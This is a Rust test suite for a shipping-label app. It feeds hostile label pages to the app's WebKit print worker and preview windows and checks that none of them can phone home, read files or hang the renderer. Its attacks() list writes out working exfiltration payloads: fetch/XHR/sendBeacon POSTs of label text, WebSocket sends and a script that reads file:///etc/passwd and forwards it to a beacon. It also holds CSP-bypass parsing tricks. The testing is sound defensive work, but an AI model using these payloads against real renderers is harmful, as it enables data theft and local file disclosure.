//! Label pages that attack: each tries to reach a beacon server on 127.0.0.1 (images, fetch
//! POST with the label text, CSS, @import, WebSocket, frames, refresh, navigation, new windows,
//! prefetch, `<base>`, forms, ...), to read `file:///etc/passwd`, or to hang its renderer. They
//! go through the real print worker and both preview paths (WebKitGTK under Xvfb), and the
//! beacon must see nothing. Also: loops end within the job deadline with a clear error, a
//! timeout leaves no WebKit process behind, children never see the AppSecret, and a normal
//! label whose script writes its barcode text still prints it.

#![allow(clippy::unwrap_used)] // a panic is a failed test

mod common;
mod print_support;

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{mpsc, Arc, Mutex};
use std::time::{Duration, Instant};

use print_support as ps;
use proptest::prelude::*;
use waybill_desk::print::html::{harden, policy_meta};
use waybill_desk::print::preview_window::{PreviewEvent, PreviewWindowProcess};
use waybill_desk::print::process::descendants;
use waybill_desk::print::worker::WorkerProcess;
use waybill_desk::print::{
    print_batch, CancelToken, JobOutcome, LabelSize, PrintError, PrintJob, PrintOptions,
    PrintTarget,
};
use waybill_desk::wechat::{Lang, PrintType};

/// How long to wait after the pages have rendered for loads that start late (timers,
/// prefetches, redirects, retries).
const SETTLE: Duration = Duration::from_secs(2);

/// An HTTP/WebSocket server on 127.0.0.1:0 that counts every connection and records the
/// request line (or `<connection without request>`), then answers 200 with an empty body.
struct Beacon {
    addr: SocketAddr,
    /// A UDP socket too (STUN/TURN from WebRTC would not go through any HTTP proxy).
    udp: SocketAddr,
    hits: Arc<Mutex<Vec<String>>>,
}

impl Beacon {
    fn start() -> Beacon {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let hits = Arc::new(Mutex::new(Vec::new()));
        let seen = hits.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let seen = seen.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                    let mut buf = vec![0u8; 8192];
                    let n = stream.read(&mut buf).unwrap_or(0);
                    let text = String::from_utf8_lossy(&buf[..n]).into_owned();
                    let line = text
                        .lines()
                        .next()
                        .filter(|l| !l.is_empty())
                        .unwrap_or("<connection without request>")
                        .to_string();
                    seen.lock().unwrap().push(line);
                    let _ = stream.write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                    );
                });
            }
        });
        let udp_socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp = udp_socket.local_addr().unwrap();
        let seen = hits.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while let Ok((n, from)) = udp_socket.recv_from(&mut buf) {
                seen.lock()
                    .unwrap()
                    .push(format!("UDP datagram of {n} bytes from {from}"));
            }
        });
        Beacon { addr, udp, hits }
    }

    fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    fn hits(&self) -> Vec<String> {
        self.hits.lock().unwrap().clone()
    }

    /// Checks the beacon can be hit at all (so zero hits means blocked, not unreachable).
    fn self_test(&self) {
        std::net::UdpSocket::bind("127.0.0.1:0")
            .unwrap()
            .send_to(b"self-test", self.udp)
            .unwrap();
        let before = 1;
        let mut s = std::net::TcpStream::connect(self.addr).unwrap();
        s.write_all(b"GET /self-test HTTP/1.1\r\nHost: x\r\n\r\n")
            .unwrap();
        let mut answer = String::new();
        let _ = s.read_to_string(&mut answer);
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        let deadline = Instant::now() + Duration::from_secs(5);
        while self.hits().len() <= before {
            assert!(Instant::now() < deadline, "the beacon counts nothing");
            std::thread::sleep(Duration::from_millis(10));
        }
        self.hits.lock().unwrap().clear();
    }
}

/// Text every attack page shows (what a fetch POST would try to carry away).
const LABEL_TEXT: &str = "收件人 张三 13800001111 SF1400000000001";

/// The attack pages: (name, page). Every URL names its attack, so a hit says which got out.
fn attacks(beacon: &Beacon) -> Vec<(&'static str, String)> {
    let b = beacon.url();
    let hp = beacon.addr.to_string();
    let t = LABEL_TEXT;
    vec![
        // Parsing tricks that once moved the policy out of the way.
        ("comment-head", format!(
            "<!--<head>--><!DOCTYPE html><html><head><title>x</title></head><body>{t}<img src=\"{b}/comment-head\"></body></html>")),
        ("attr-head", format!(
            "<div title=\"<head>\">{t}</div><html><head></head><body><img src=\"{b}/attr-head\"></body></html>")),
        ("element-first", format!(
            "<p>{t}</p><html><head></head><body><img src=\"{b}/element-first\"></body></html>")),
        ("second-head", format!(
            "<!DOCTYPE html><html><head></head><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\"></head><body>{t}<img src=\"{b}/second-head\"></body></html>")),
        // Subresources.
        ("img", format!(
            "<!DOCTYPE html><html><head></head><body>{t}<img src=\"{b}/img\"><img srcset=\"{b}/srcset 2x\"><picture><source srcset=\"{b}/picture\"><img></picture></body></html>")),
        ("fetch-post", format!(
            "<body><p id=t>{t}</p><script>const text = document.getElementById('t').innerText;\
             fetch('{b}/fetch-post', {{method: 'POST', mode: 'no-cors', body: text}}).catch(() => {{}});\
             try {{ const x = new XMLHttpRequest(); x.open('POST', '{b}/xhr', false); x.send(text); }} catch (e) {{}}\
             try {{ navigator.sendBeacon('{b}/send-beacon', text); }} catch (e) {{}}</script></body>")),
        ("css-url", format!(
            "<style>body {{ background-image: url('{b}/css-body'); }} @font-face {{ font-family: f; src: url({b}/css-font); }} p {{ font-family: f; }}</style>\
             <div style=\"width:20px;height:20px;background:url({b}/css-inline)\"></div><p>{t}</p>")),
        ("import", format!(
            "<style>@import url(\"{b}/import\");</style><link rel=stylesheet href=\"{b}/stylesheet\"><p>{t}</p>")),
        ("websocket", format!(
            "<p>{t}</p><script>try {{ const w = new WebSocket('ws://{hp}/websocket'); w.onopen = () => w.send(document.body.innerText); }} catch (e) {{}}</script>")),
        ("iframe", format!(
            "<p>{t}</p><iframe src=\"{b}/iframe\"></iframe><iframe srcdoc=\"<img src={b}/srcdoc>\"></iframe>\
             <iframe src=\"data:text/html,<img src={b}/data-iframe>\"></iframe><object data=\"{b}/object\"></object><embed src=\"{b}/embed\">")),
        ("meta-refresh", format!(
            "<meta http-equiv=\"refresh\" content=\"0;url={b}/meta-refresh\"><p>{t}</p>")),
        ("location", format!(
            "<p>{t}</p><script>location.href = '{b}/location';</script>")),
        ("window-open", format!(
            "<p>{t}</p><a id=a href=\"{b}/link-blank\" target=_blank>a</a><script>window.open('{b}/window-open');\
             document.getElementById('a').click();</script>")),
        ("prefetch", format!(
            "<link rel=prefetch href=\"{b}/prefetch\"><link rel=dns-prefetch href=\"//{hp}\"><link rel=preconnect href=\"{b}\">\
             <link rel=preload as=image href=\"{b}/preload\"><link rel=icon href=\"{b}/icon\"><link rel=manifest href=\"{b}/manifest\"><p>{t}</p>")),
        ("base", format!(
            "<base href=\"{b}/base/\"><p>{t}</p><img src=\"base.png\"><link rel=stylesheet href=\"base.css\">")),
        ("form", format!(
            "<form id=f action=\"{b}/form\" method=post><input name=a value=\"{t}\"></form><script>document.getElementById('f').submit();</script>")),
        ("workers-and-streams", format!(
            "<p>{t}</p><script>try {{ new EventSource('{b}/eventsource'); }} catch (e) {{}}\
             try {{ new Worker('{b}/worker.js'); }} catch (e) {{}}\
             try {{ import('{b}/module.js').catch(() => {{}}); }} catch (e) {{}}</script>")),
        ("media", format!(
            "<p>{t}</p><svg width=20 height=20><image href=\"{b}/svg-image\" width=10 height=10/></svg>\
             <video src=\"{b}/video\"></video><audio src=\"{b}/audio\" autoplay></audio>")),
        ("ping", format!(
            "<p>{t}</p><a ping=\"{b}/ping\" href=\"#x\" id=p>p</a><script>document.getElementById('p').click();</script>")),
        ("late", format!(
            "<p>{t}</p><script>setTimeout(() => {{ new Image().src = '{b}/late-img'; fetch('{b}/late-fetch').catch(() => {{}}); }}, 300);</script>")),
        ("webrtc", format!(
            "<p>{t}</p><script>try {{ const pc = new RTCPeerConnection({{ iceServers: [\
             {{ urls: 'stun:{udp}' }}, {{ urls: 'turn:{hp}?transport=tcp', username: 'u', credential: 'c' }}] }});\
             pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); }} catch (e) {{}}</script>",
            udp = beacon.udp)),
        // Files: the page must not read them, and could not send them anywhere anyway.
        ("file", format!(
            "<p>{t}</p><img src=\"file:///etc/passwd\"><iframe src=\"file:///etc/passwd\"></iframe><pre id=out>no file</pre>\
             <script>fetch('file:///etc/passwd').then(r => r.text()).then(x => {{\
             document.getElementById('out').textContent = 'LEAKED ' + x;\
             new Image().src = '{b}/file?' + encodeURIComponent(x.slice(0, 40)); }}).catch(() => {{}});\
             try {{ const r = new XMLHttpRequest(); r.open('GET', 'file:///etc/passwd', false); r.send();\
             document.getElementById('out').textContent = 'LEAKED ' + r.responseText; }} catch (e) {{}}</script>")),
    ]
}

fn pdf_job(label_id: &str, html: &str, path: &Path) -> PrintJob {
    PrintJob {
        label_id: label_id.into(),
        html: html.into(),
        size: LabelSize::TWO_PART,
        target: PrintTarget::PdfFile(path.to_path_buf()),
        copies: 1,
    }
}

/// Waits [`SETTLE`] and fails listing every hit.
fn assert_no_hits(beacon: &Beacon, path: &str) {
    std::thread::sleep(SETTLE);
    let hits = beacon.hits();
    assert!(
        hits.is_empty(),
        "{path}: {} request(s) left a label page: {hits:#?}",
        hits.len()
    );
}

#[tokio::test]
async fn attack_pages_reach_nothing_when_printed() {
    if !ps::display() {
        return;
    }
    let beacon = Beacon::start();
    beacon.self_test();
    let dir = tempfile::tempdir().unwrap();
    let pages = attacks(&beacon);
    let jobs: Vec<PrintJob> = pages
        .iter()
        .map(|(name, html)| pdf_job(name, html, &dir.path().join(format!("{name}.pdf"))))
        .collect();
    let results = print_batch(
        jobs,
        &PrintOptions::new(ps::worker()),
        |_| {},
        &CancelToken::new(),
    )
    .await;
    tokio::task::spawn_blocking({
        let hits = beacon.hits.clone();
        move || {
            std::thread::sleep(SETTLE);
            let hits = hits.lock().unwrap().clone();
            assert!(
                hits.is_empty(),
                "print worker: {} request(s) left a label page: {hits:#?}",
                hits.len()
            );
        }
    })
    .await
    .unwrap();
    for ((name, _), result) in pages.iter().zip(&results) {
        assert_eq!(result.outcome, JobOutcome::Printed, "{name}: {result:?}");
    }
    // The pages rendered (their text is in the PDF), and the file was not read into one.
    let text = ps::pdftotext(&dir.path().join("file.pdf"));
    assert!(text.contains("SF1400000000001"), "{text}");
    assert!(text.contains("no file"), "{text}");
    assert!(
        !text.contains("LEAKED") && !text.contains("root:"),
        "{text}"
    );
}

#[tokio::test]
async fn attack_pages_reach_nothing_in_the_preview_window() {
    if !ps::display() {
        return;
    }
    let beacon = Beacon::start();
    beacon.self_test();
    let pages = attacks(&beacon);
    tokio::task::spawn_blocking(move || {
        let mut window = PreviewWindowProcess::spawn(ps::helper()).unwrap();
        let events = window.take_events().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(events).lines() {
                let Ok(line) = line else { break };
                let _ = tx.send(serde_json::from_str::<PreviewEvent>(&line).unwrap());
            }
        });
        assert!(matches!(
            rx.recv_timeout(Duration::from_secs(60)).unwrap(),
            PreviewEvent::Ready { .. }
        ));
        for (name, html) in &pages {
            window.show(html, LabelSize::TWO_PART).unwrap();
            // Loaded, then a moment for what the page starts after loading.
            let deadline = Instant::now() + Duration::from_secs(30);
            loop {
                match rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
                    Ok(PreviewEvent::Loaded) => break,
                    Ok(PreviewEvent::Error { message }) => panic!("{name}: {message}"),
                    Ok(_) => {}
                    Err(e) => panic!("{name} did not load: {e}"),
                }
            }
            std::thread::sleep(Duration::from_millis(400));
            assert!(window.is_alive(), "{name}: the preview window died");
        }
        assert_no_hits(&beacon, "preview window");
        window.close();
    })
    .await
    .unwrap();
}

#[test]
fn attack_pages_reach_nothing_in_the_child_preview() {
    if !ps::display() {
        return;
    }
    let beacon = Beacon::start();
    beacon.self_test();
    let pages = attacks(&beacon);
    // GTK belongs to one thread, and WebKit deadlocks tearing down the run loop of a GTK thread
    // that exits (see print_preview.rs): the thread reports its outcome and stays parked.
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let outcome =
            std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| child_preview_pages(&pages)));
        let _ = tx.send(outcome.map_err(|panic| {
            panic
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_else(|| "panicked".into())
        }));
        loop {
            std::thread::park();
        }
    });
    match rx.recv_timeout(Duration::from_secs(240)) {
        Ok(Ok(())) => {}
        Ok(Err(message)) => panic!("{message}"),
        Err(e) => panic!("the child preview did not finish: {e}"),
    }
    assert_no_hits(&beacon, "child preview");
}

fn child_preview_pages(pages: &[(&'static str, String)]) {
    use tao::event_loop::EventLoopBuilder;
    use tao::platform::unix::EventLoopBuilderExtUnix as _;
    use tao::window::WindowBuilder;
    use waybill_desk::print::preview::{pump, LabelPreview};

    let event_loop = EventLoopBuilder::new().with_any_thread(true).build();
    let window = WindowBuilder::new()
        .with_title("host")
        .with_inner_size(tao::dpi::PhysicalSize::new(500u32, 800u32))
        .build(&event_loop)
        .unwrap();
    let pump_for = |d: Duration| {
        let until = Instant::now() + d;
        while Instant::now() < until {
            pump();
            std::thread::sleep(Duration::from_millis(5));
        }
    };
    let (first_name, first) = &pages[0];
    let mut preview =
        LabelPreview::new_child(&window, (0, 0, 480, 780), first, LabelSize::TWO_PART).unwrap();
    let wait_loaded = |preview: &LabelPreview, name: &str| {
        let deadline = Instant::now() + Duration::from_secs(30);
        while !preview.is_loaded() {
            assert!(Instant::now() < deadline, "{name} did not load");
            pump();
            std::thread::sleep(Duration::from_millis(5));
        }
    };
    wait_loaded(&preview, first_name);
    pump_for(Duration::from_millis(400));
    for (name, html) in &pages[1..] {
        preview.set_html(html, LabelSize::TWO_PART).unwrap();
        wait_loaded(&preview, name);
        pump_for(Duration::from_millis(400));
    }
    // Keep the pages alive (and pumped) while late loads would go out.
    pump_for(SETTLE);
    drop(preview);
    drop(window);
}

#[tokio::test]
async fn a_label_whose_script_writes_its_barcode_text_still_prints_it_at_its_size() {
    if !ps::display() {
        return;
    }
    let (_sb, labels) = ps::sandbox_labels(1, PrintType::TwoPart).await;
    let dir = tempfile::tempdir().unwrap();
    // A standards-mode label that draws its barcode text with an inline script and reports
    // the rendering mode the policy left it in.
    let scripted = "<!DOCTYPE html><html><head><style>html,body{margin:0}\
         .l{width:100mm;height:178mm;border:1px solid #000;box-sizing:border-box}</style></head>\
         <body><div class=l><div id=bc></div></div><script>document.getElementById('bc')\
         .textContent = 'SF' + (1234567890 + 1) + ' ' + document.compatMode;</script></body></html>";
    let with_bom = format!("\u{feff}{scripted}");
    let jobs = vec![
        pdf_job("scripted", scripted, &dir.path().join("scripted.pdf")),
        pdf_job("bom", &with_bom, &dir.path().join("bom.pdf")),
        pdf_job(
            &labels[0].order_id,
            &labels[0].html,
            &dir.path().join("sandbox.pdf"),
        ),
    ];
    let results = print_batch(
        jobs,
        &PrintOptions::new(ps::worker()),
        |_| {},
        &CancelToken::new(),
    )
    .await;
    assert!(results.iter().all(|r| r.printed()), "{results:?}");
    for name in ["scripted.pdf", "bom.pdf"] {
        let text = ps::pdftotext(&dir.path().join(name));
        assert!(text.contains("SF1234567891"), "{name}: {text}");
        assert!(
            text.contains("CSS1Compat"),
            "{name}: standards mode kept: {text}"
        );
    }
    for name in ["scripted.pdf", "bom.pdf", "sandbox.pdf"] {
        let info = ps::pdfinfo(&dir.path().join(name));
        assert_eq!(
            (info.pages, info.rounded()),
            (1, (283, 510)),
            "{name}: {info:?}"
        );
    }
    let text = ps::pdftotext(&dir.path().join("sandbox.pdf"));
    assert!(text.contains(&labels[0].waybill_id.to_string()), "{text}");
}

#[tokio::test]
async fn labels_that_loop_end_with_a_clear_error_and_the_next_label_prints() {
    if !ps::display() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let busy = "<html><head><script>while (true) {}</script></head><body>never</body></html>";
    let print_loop = "<body>x<script>for (;;) { window.print(); }</script></body>";
    let late_loop =
        "<body>x<script>onload = () => setTimeout(() => { for (;;) {} }, 0);</script></body>";
    let good = "<body><p>GOOD-LABEL-7</p></body>";
    let jobs = vec![
        pdf_job("busy", busy, &dir.path().join("busy.pdf")),
        pdf_job("print-loop", print_loop, &dir.path().join("print-loop.pdf")),
        pdf_job("late-loop", late_loop, &dir.path().join("late-loop.pdf")),
        pdf_job("good", good, &dir.path().join("good.pdf")),
    ];
    let config = ps::worker();
    let job_timeout = config.job_timeout;
    let started = Instant::now();
    let times = Arc::new(Mutex::new(Vec::new()));
    let seen = times.clone();
    let results = print_batch(
        jobs,
        &PrintOptions {
            worker: config,
            stop_on_failure: false,
            ..PrintOptions::new(ps::worker())
        },
        move |_| seen.lock().unwrap().push(Instant::now()),
        &CancelToken::new(),
    )
    .await;
    for (i, name) in ["busy", "print-loop", "late-loop"].iter().enumerate() {
        let JobOutcome::Failed { error } = &results[i].outcome else {
            panic!("{name}: {:?}", results[i]);
        };
        assert_eq!(
            error,
            &PrintError::LabelUnresponsive { seconds: 20 },
            "{name}"
        );
        let en = error.explain(Lang::En);
        assert!(en.contains("fetch the label again"), "{en}");
        assert!(!dir.path().join(format!("{name}.pdf")).exists());
    }
    assert_eq!(results[3].outcome, JobOutcome::Printed, "{results:?}");
    assert!(ps::pdftotext(&dir.path().join("good.pdf")).contains("GOOD-LABEL-7"));
    // Each looping label ended within the job deadline (by the worker, not by being killed).
    let times = times.lock().unwrap().clone();
    let mut last = started;
    for t in times.iter().take(3) {
        assert!(
            t.duration_since(last) < job_timeout,
            "{:?}",
            t.duration_since(last)
        );
        last = *t;
    }
}

/// Processes seen, with their command name.
fn comm(pid: u32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/comm"))
        .unwrap_or_default()
        .trim()
        .to_string()
}

/// Running: there and not a zombie.
fn alive(pid: u32) -> bool {
    waybill_desk::print::process::running(pid)
}

#[tokio::test]
async fn a_timeout_stops_the_worker_and_every_webkit_process_it_started() {
    if !ps::display() {
        return;
    }
    let mut config = ps::worker();
    config.job_timeout = Duration::from_secs(6);
    let mut worker = WorkerProcess::start(&config).await.unwrap();
    let pid = worker.pid().unwrap();
    // Record the worker's process tree while the job runs.
    let stop = Arc::new(AtomicBool::new(false));
    let seen = Arc::new(Mutex::new(BTreeSet::new()));
    let sampler = {
        let (stop, seen) = (stop.clone(), seen.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::SeqCst) {
                for p in descendants(pid) {
                    seen.lock().unwrap().insert((p, comm(p)));
                }
                std::thread::sleep(Duration::from_millis(100));
            }
        })
    };
    let dir = tempfile::tempdir().unwrap();
    let busy =
        "<body>x<script>onload = () => setTimeout(() => { for (;;) {} }, 0);</script></body>";
    let started = Instant::now();
    let result = worker
        .print(&pdf_job("busy", busy, &dir.path().join("busy.pdf")))
        .await;
    assert_eq!(result, Err(PrintError::Timeout { timeout_ms: 6000 }));
    assert!(started.elapsed() < Duration::from_secs(10));
    stop.store(true, Ordering::SeqCst);
    sampler.join().unwrap();
    let seen = seen.lock().unwrap().clone();
    // (/proc's comm is cut at 15 characters.)
    for name in ["WebKitWebProces", "WebKitNetworkPr"] {
        assert!(
            seen.iter().any(|(_, c)| c == name),
            "no {name} was seen below the worker: {seen:?}"
        );
    }
    assert!(!worker.is_alive());
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let left: Vec<_> = seen.iter().filter(|(p, _)| alive(*p)).collect();
        if left.is_empty() {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "still running after the timeout: {left:?}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// CPU time (user + system, in clock ticks) used so far by each of `pids` that still runs.
fn cpu_ticks(pids: &[u32]) -> u64 {
    pids.iter()
        .filter_map(|p| std::fs::read_to_string(format!("/proc/{p}/stat")).ok())
        .filter_map(|s| {
            let fields: Vec<&str> = s[s.rfind(')')? + 1..].split_whitespace().collect();
            // After the comm: state is field 3, utime 14 and stime 15 of the whole line.
            Some(fields.get(11)?.parse::<u64>().ok()? + fields.get(12)?.parse::<u64>().ok()?)
        })
        .sum()
}

/// Share of one CPU the processes below `pid` used over `window`.
fn cpu_share_below(pid: u32, window: Duration) -> f64 {
    let tree = descendants(pid);
    let before = cpu_ticks(&tree);
    std::thread::sleep(window);
    let used = cpu_ticks(&tree).saturating_sub(before);
    // Linux reports in USER_HZ, 100 per second on every architecture Rust supports here.
    used as f64 / (window.as_secs_f64() * 100.0)
}

const NEVER_YIELDS: &str = "<body>busy<script>while (true) {}</script></body>";

#[tokio::test]
async fn a_label_that_never_yields_is_stopped_in_the_preview_window() {
    if !ps::display() {
        return;
    }
    tokio::task::spawn_blocking(|| {
        let mut window = PreviewWindowProcess::spawn(ps::helper()).unwrap();
        let events = window.take_events().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(events).lines() {
                let Ok(line) = line else { break };
                let _ = tx.send(serde_json::from_str::<PreviewEvent>(&line).unwrap());
            }
        });
        assert!(matches!(
            rx.recv_timeout(Duration::from_secs(60)).unwrap(),
            PreviewEvent::Ready { .. }
        ));
        let pid = window.pid();
        window.show(NEVER_YIELDS, LabelSize::TWO_PART).unwrap();
        std::thread::sleep(Duration::from_secs(2));
        let busy = cpu_share_below(pid, Duration::from_secs(1));
        // Low bar: the machine may be busy with other work; an idle web process uses ~0.
        assert!(busy > 0.05, "the page should spin a web process: {busy:.2}");
        let started = Instant::now();
        let message = loop {
            match rx.recv_timeout(Duration::from_secs(30)).unwrap() {
                PreviewEvent::Error { message } => break message,
                _ => continue,
            }
        };
        assert!(message.contains("still running its scripts"), "{message}");
        assert!(started.elapsed() < Duration::from_secs(20));
        let after = cpu_share_below(pid, Duration::from_secs(2));
        assert!(after < 0.15, "still busy after it was stopped: {after:.2}");
        // The next label shows.
        window.show("<p>next</p>", LabelSize::TWO_PART).unwrap();
        let deadline = Instant::now() + Duration::from_secs(30);
        while rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .unwrap()
            != PreviewEvent::Loaded
        {}
        window.close();
    })
    .await
    .unwrap();
}

#[test]
fn a_label_that_never_yields_is_stopped_in_the_child_preview() {
    if !ps::display() {
        return;
    }
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(hung_child_preview));
        let _ = tx.send(outcome.map_err(|panic| {
            panic
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_else(|| "panicked".into())
        }));
        loop {
            std::thread::park();
        }
    });
    match rx.recv_timeout(Duration::from_secs(120)) {
        Ok(Ok(())) => {}
        Ok(Err(message)) => panic!("{message}"),
        Err(e) => panic!("the child preview did not finish: {e}"),
    }
}

fn hung_child_preview() {
    use tao::event_loop::EventLoopBuilder;
    use tao::platform::unix::EventLoopBuilderExtUnix as _;
    use tao::window::WindowBuilder;
    use waybill_desk::print::preview::{pump, LabelPreview};

    let event_loop = EventLoopBuilder::new().with_any_thread(true).build();
    let window = WindowBuilder::new()
        .with_inner_size(tao::dpi::PhysicalSize::new(400u32, 600u32))
        .build(&event_loop)
        .unwrap();
    let mut preview =
        LabelPreview::new_child(&window, (0, 0, 380, 580), NEVER_YIELDS, LabelSize::TWO_PART)
            .unwrap();
    let pump_until = |done: &dyn Fn() -> bool, limit: Duration| {
        let deadline = Instant::now() + limit;
        while !done() && Instant::now() < deadline {
            pump();
            std::thread::sleep(Duration::from_millis(10));
        }
        done()
    };
    let started = Instant::now();
    let me = std::process::id();
    pump_until(&|| false, Duration::from_secs(2));
    let tree = descendants(me);
    let before = cpu_ticks(&tree);
    pump_until(&|| false, Duration::from_secs(1));
    let busy = cpu_ticks(&tree).saturating_sub(before) as f64 / 100.0;
    // Low bar: the machine may be busy with other work; an idle web process uses ~0.
    assert!(busy > 0.05, "the page should spin a web process: {busy:.2}");
    assert!(
        pump_until(&|| preview.is_hung(), Duration::from_secs(30)),
        "the hung page was not stopped"
    );
    assert!(started.elapsed() < Duration::from_secs(20));
    // Pumped meanwhile, or WebKit's answers queue up.
    let tree = descendants(me);
    let before = cpu_ticks(&tree);
    pump_until(&|| false, Duration::from_secs(2));
    let after = cpu_ticks(&tree).saturating_sub(before) as f64 / 200.0;
    assert!(after < 0.15, "still busy after it was stopped: {after:.2}");
    preview
        .set_html("<p>next</p>", LabelSize::TWO_PART)
        .unwrap();
    assert!(!preview.is_hung());
    assert!(
        pump_until(&|| preview.is_loaded(), Duration::from_secs(30)),
        "the next label did not load"
    );
    drop(preview);
    drop(window);
}

/// The secret put into this test process's environment.
const SECRET: &str = "hostile-label-test-secret-3b9f";

fn set_secrets() {
    std::env::set_var("WAYBILL_DESK_APPSECRET", SECRET);
    std::env::set_var("SOME_API_TOKEN", SECRET);
}

/// Fails when any of `pids` has a secret in its environment; returns how many environments
/// were read (and what they were).
fn assert_no_secret_in(pids: &[u32]) -> Vec<(u32, String)> {
    let mut read = Vec::new();
    for &pid in pids {
        let Ok(environ) = std::fs::read(format!("/proc/{pid}/environ")) else {
            continue;
        };
        let environ = String::from_utf8_lossy(&environ).into_owned();
        let name = comm(pid);
        assert!(
            !environ.contains("WAYBILL_DESK_APPSECRET") && !environ.contains(SECRET),
            "{name} ({pid}) has the secret in its environment"
        );
        assert!(!environ.contains("SOME_API_TOKEN"), "{name} ({pid})");
        read.push((pid, name));
    }
    read
}

#[tokio::test]
async fn the_worker_and_its_webkit_processes_never_see_the_app_secret() {
    if !ps::display() {
        return;
    }
    set_secrets();
    let mut worker = WorkerProcess::start(&ps::worker()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    worker
        .print(&pdf_job("x", "<p>x</p>", &dir.path().join("x.pdf")))
        .await
        .unwrap();
    let pid = worker.pid().unwrap();
    let mut pids = vec![pid];
    pids.extend(descendants(pid));
    let read = assert_no_secret_in(&pids);
    assert!(
        read.iter().any(|(p, _)| *p == pid)
            && ["WebKitWebProces", "WebKitNetworkPr"]
                .iter()
                .all(|n| read.iter().any(|(_, c)| c == n)),
        "the worker's and WebKit's environments were read: {read:?}"
    );
    let worker_env = std::fs::read(format!("/proc/{pid}/environ")).unwrap();
    assert!(
        String::from_utf8_lossy(&worker_env).contains("DISPLAY="),
        "the worker keeps what it needs"
    );
    worker.shutdown().await;
}

#[tokio::test]
async fn the_preview_window_and_its_webkit_processes_never_see_the_app_secret() {
    if !ps::display() {
        return;
    }
    set_secrets();
    tokio::task::spawn_blocking(|| {
        let mut window = PreviewWindowProcess::spawn(ps::helper()).unwrap();
        let events = window.take_events().unwrap();
        let mut lines = BufReader::new(events).lines();
        window.show("<p>x</p>", LabelSize::TWO_PART).unwrap();
        let mut loaded = false;
        for line in lines.by_ref() {
            let event: PreviewEvent = serde_json::from_str(&line.unwrap()).unwrap();
            if event == PreviewEvent::Loaded {
                loaded = true;
                break;
            }
        }
        assert!(loaded);
        let pid = window.pid();
        let mut pids = vec![pid];
        pids.extend(descendants(pid));
        let read = assert_no_secret_in(&pids);
        assert!(
            ["WebKitWebProces", "WebKitNetworkPr"]
                .iter()
                .all(|n| read.iter().any(|(_, c)| c == n)),
            "{read:?}"
        );
        window.close();
    })
    .await
    .unwrap();
}

/// Label-ish text with the pieces parsers trip over.
fn adversarial() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("<head>".to_string()),
        Just("<HEAD data-x=\"<head>\">".to_string()),
        Just("<!--".to_string()),
        Just("-->".to_string()),
        Just("<!--<head>-->".to_string()),
        Just("<!DOCTYPE html>".to_string()),
        Just("<!doctype".to_string()),
        Just("<html>".to_string()),
        Just("</head>".to_string()),
        Just("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">".to_string()),
        Just("<p title='".to_string()),
        Just("\">".to_string()),
        Just("<script>".to_string()),
        Just("<base href=http://x/>".to_string()),
        Just("\u{feff}".to_string()),
        Just(" \n\t".to_string()),
        "[a-z<>/!=\"' -]{0,12}",
        "\\PC{0,8}",
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    /// Whatever the label, the output is [doctype token] + policy + the label unchanged (less a
    /// leading byte-order mark), and the doctype token (if any) is one token: it starts with
    /// `<!doctype` and its only `>` is its last byte, so nothing can come before the policy.
    #[test]
    fn harden_puts_the_policy_first_and_keeps_the_label(input in prop_oneof![any::<String>(), adversarial()]) {
        let out = harden(&input);
        // A leading byte-order mark is dropped (decoders do); everything else stays.
        let input = input.strip_prefix('\u{feff}').unwrap_or(&input).to_string();
        let meta = policy_meta();
        prop_assert!(out.ends_with(input.as_str()));
        let before_input = &out[..out.len() - input.len()];
        prop_assert!(before_input.ends_with(meta.as_str()), "{:?}", before_input);
        let prefix = &before_input[..before_input.len() - meta.len()];
        if !prefix.is_empty() {
            prop_assert!(prefix.to_ascii_lowercase().starts_with("<!doctype"), "{:?}", prefix);
            prop_assert_eq!(prefix.find('>'), Some(prefix.len() - 1));
            let html_space: &[char] = &['\t', '\n', '\x0c', '\r', ' '];
            let rest = input.trim_start_matches(html_space);
            prop_assert!(rest.starts_with(prefix), "{:?}", prefix);
        }
    }
}
